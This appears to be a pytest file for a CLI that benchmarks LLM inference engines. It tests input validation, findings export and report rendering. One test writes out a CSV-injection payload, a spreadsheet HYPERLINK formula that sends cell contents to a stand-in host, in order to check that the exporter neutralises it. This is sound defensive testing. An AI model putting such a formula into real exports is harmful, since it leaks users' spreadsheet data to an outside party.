"""``workbench run`` and ``probe`` given bad input (issue 40): each is refused before any kernel starts. Every row runs
the real CLI (in-process, ``tests/clirun.py``) into an empty folder and expects exit 2, a one-line message, no traceback, and the folder still empty
(no lock, no executed notebook, no log, no finding, no report: a notebook that ran would have left all of them)."""

from __future__ import annotations

import json

import pytest
from clirun import wb

CASES = [  # (case, arguments after the command, what the one line says)
    ("an engine no cell implements", ["run", "--engine", "tensorrt"], "unknown engine 'tensorrt'"),
    ("an unknown model", ["run", "-m", "smollm3"], "unknown model spec 'smollm3'"),
    ("an engine's unknown model", ["run", "--engine", "llamacpp", "--engine", "vllm", "-m", "vllm=smollm3"],
     "unknown model spec 'smollm3'"),
    ("a probe parameter of the wrong type", ["run", "-p", "pressure=abc"],
     "notebook 10_retention runs probe retention.pinning_under_pressure: parameter pressure must be float (finite), "
     "got 'abc'"),
    ("a probe parameter below its bound", ["run", "--only", "reuse_metrics", "-p", "blocks=0"],
     "parameter blocks=0 must be at least 2"),
    ("a parameter no notebook takes", ["run", "-p", "presure=2"], "no selected notebook takes parameter(s) presure"),
    ("papermill's two-token -p", ["run", "-p", "pressure", "1,2"], "write -p pressure=1,2"),
    ("the loop's unknown trace", ["run", "--only", "agentic_loop", "-p", "trace=taubenh"],
     "notebook 60_agentic_loop: parameter trace: unknown trace 'taubenh'"),
    ("the loop's unknown arm", ["run", "--only", "agentic_loop", "-p", "arms=llamacpp,lamacpp-spec"],
     "notebook 60_agentic_loop: parameter arms: unknown arm 'lamacpp-spec'"),
    ("a cell option the engine does not take", ["run", "--only", "retention", "-p", 'cell_options={"gpu_layrs": 1}'],
     "notebook 10_retention: parameter cell_options: unknown llamacpp cell option(s) gpu_layrs; valid: "),
    ("a cell option's value of the wrong type", ["run", "--only", "retention", "-p", 'cell_options={"threads": "abc"}'],
     "notebook 10_retention: parameter cell_options: llamacpp cell option threads must be an integer or null, got "
     "'abc'"),  # it started a kernel and exited 1 (issue 52)
    ("a cell option's value its engine refuses", ["run", "--only", "retention", "-p", 'cell_options={"kv_type": "q3"}'],
     "kv_type must be one of f32, f16, q4_0, q8_0, bf16, got 'q3'"),
    ("a probe's cell option of the wrong type", ["probe", "retention.pinning_under_pressure", "-c", "threads=abc"],
     "llamacpp cell option threads must be an integer or null, got 'abc'"),
    ("a GGUF for an engine that runs Hugging Face directories", ["probe", "reuse.per_request_metrics", "--engine", "vllm"],
     "vllm runs a Hugging Face directory (config.json + safetensors), and smollm2-135m is a GGUF file"),  # was exit 0,
    # a not-run finding (issue 52)
    ("a probe on an engine not installed, with an unknown model",
     ["probe", "retention.pinning_under_pressure", "--engine", "trtllm", "-m", "smollm3"],
     "unknown model spec 'smollm3'"),
    ("a probe given papermill's two-token -p", ["probe", "capacity.budget_policy", "-p", "tolerance", "0.1"],
     "write -p tolerance=0.1"),
]


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_bad_input_exits_2_before_anything_runs(case, tmp_path):
    _, args, says = case
    r = wb(*args, "--out", str(tmp_path))
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr + r.stdout
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and says in lines[0], r.stderr
    assert not list(tmp_path.iterdir())  # nothing written, not even the writer's lock


def test_version_names_the_package_and_the_commit():
    """``--version`` before (or without) a command: the installed package's version and this checkout's commit."""
    import subprocess
    from importlib import metadata
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    head = subprocess.run(["git", "-C", str(root), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
    r = wb("--version", "run")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith(f"workbench {metadata.version('workbench')}" + (f" (commit {head}" if head else ""))


# --------------------------------------------------------------------------- findings --format (issue 40, item 8)


@pytest.fixture(scope="module")
def two_findings(tmp_path_factory):
    """A not-run finding (no answer to settle) and a forged answer that settles nothing (dated 2099)."""
    import shutil
    from pathlib import Path

    from test_findings import make
    from workbench import findings

    folder = tmp_path_factory.mktemp("findings")
    findings.write(make(verdict="not-run", reason="no GPU"), folder)
    shutil.copy(Path(__file__).parent / "fixtures" / "forged" / "loop.gate-trtllm-forged.json", folder)
    return folder


def test_findings_export_the_flat_table_as_csv_and_json(two_findings, tmp_path):
    import csv

    from workbench import findings

    table = findings.load(two_findings)
    r = wb("findings", str(two_findings), "--format", "csv", "--out", str(tmp_path / "f.csv"))
    assert r.returncode == 0 and r.stdout == "", r.stderr
    rows = list(csv.DictReader((tmp_path / "f.csv").open()))
    columns = list(table.columns)
    assert list(rows[0]) == [*columns[:columns.index("verdict") + 1], "settles_nothing",
                             *columns[columns.index("verdict") + 1:]]
    assert [r["id"] for r in rows] == list(table["id"])
    said = {r["probe"]: r for r in rows}
    assert said["loop.gate"]["settles_nothing"].startswith("it is dated 2099")
    assert said["reuse.per_request_metrics"]["settles_nothing"] == ""
    assert said["reuse.per_request_metrics"]["claims"] == "unknown.reuse_metrics"

    r = wb("findings", str(two_findings), "--format", "json")
    assert r.returncode == 0, r.stderr
    records = json.loads(r.stdout)
    assert [d["id"] for d in records] == list(table["id"])
    assert records[list(table["probe"]).index("reuse.per_request_metrics")]["metric.reused_tokens"] == 12


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_the_csv_export_neutralises_a_formula_a_finding_carries(tmp_path, lead):
    """A summary a spreadsheet would run as a formula (OWASP, CSV injection) is exported as text: a leading ``'``;
    numbers (a negative metric) stay numbers, and the JSON export keeps the text as it was."""
    import csv

    from test_findings import make
    from workbench import findings, findings_export

    attack = lead + 'HYPERLINK("http://example.invalid/?"&A1,"click")'
    folder = tmp_path / "findings"
    f = make(verdict="not-run", reason=attack)
    f.summary = attack
    f.metrics = findings.metric_values({"reused_tokens": -3})
    findings.write(f, folder)
    text = findings_export.export(findings.scan([folder]), "csv")
    (row,) = list(csv.DictReader(text.splitlines(keepends=True)))
    assert row["summary"] == "'" + attack and row["reason"] == "'" + attack
    assert row["metric.reused_tokens"] == "-3"
    assert not any(v.startswith(findings_export.FORMULA_PREFIXES) for v in row.values() if v != "-3")
    (record,) = json.loads(findings_export.export(findings.scan([folder]), "json"))
    assert record["summary"] == attack


def test_findings_export_refuses_a_bad_format_or_out_before_reading(two_findings, tmp_path):
    (tmp_path / "a-file").write_text("kept")
    for args, says in ((("--format", "xlsx"), "--format 'xlsx': use table, csv, json"),
                       (("--format", "csv", "--out", str(tmp_path / "a-file" / "f.csv")), "is a file, not a folder"),
                       (("--out", str(tmp_path)), "is a folder")):
        r = wb("findings", str(two_findings), *args)
        assert r.returncode == 2 and "Traceback" not in r.stderr, (args, r.stderr)
        assert r.stderr.count("\n") == 1 and says in r.stderr, (args, r.stderr)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file"] and (tmp_path / "a-file").read_text() == "kept"


# --------------------------------------------------------------------------- report DIR (issue 40, item 3)


def test_report_redraws_a_run_folder_from_its_findings(two_findings, tmp_path):
    import shutil

    shutil.copytree(two_findings, tmp_path / "findings")
    r = wb("report", str(tmp_path))
    assert r.returncode == 0 and r.stdout.strip() == f"report: {tmp_path / 'report.html'}", r.stderr
    page = (tmp_path / "report.html").read_text()
    assert all(f"findings/{p.name}" in page for p in (tmp_path / "findings").glob("*.json"))


def test_report_of_what_is_no_run_folder_exits_2_writing_nothing(tmp_path):
    (tmp_path / "a-file").write_text("kept")
    (tmp_path / "empty").mkdir()
    for target, says in (("nowhere", "is not there"), ("a-file", "is a file"), ("empty", "is not a run folder")):
        r = wb("report", str(tmp_path / target))
        assert r.returncode == 2 and "Traceback" not in r.stderr, (target, r.stderr)
        assert r.stderr.count("\n") == 1 and says in r.stderr and "nothing was written" in r.stderr, r.stderr
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["a-file", "empty"]
